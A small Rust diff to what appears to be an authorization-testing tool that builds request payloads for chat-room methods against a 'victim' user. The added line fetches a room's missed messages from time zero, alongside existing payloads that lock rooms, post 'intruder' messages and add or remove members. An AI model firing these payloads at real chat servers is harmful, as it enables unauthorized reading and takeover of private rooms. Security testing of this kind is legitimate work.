@@ -36,6 +36,7 @@ fn params(method: &str, rid: &str, code: &str, victim: (&str, &str)) -> Option<V
         "saveRoomSettings" => json!([rid, {"locked": true, "joinCode": "", "roomTopic": "pwned"}]),
         "sendMessage" => json!([{"rid": rid, "msg": "intruder"}]),
         "loadHistory" => json!([rid, null, 50, null]),
+        "loadMissedMessages" => json!([rid, {"$date": 0}]),
         "stream-notify-room" => json!([format!("{rid}/user-activity"), "x", ["user-typing"], {}]),
         "addUserToRoom" | "removeUserFromRoom" | "muteUserInRoom" | "unmuteUserInRoom" => {
             json!([{"rid": rid, "username": vname}])
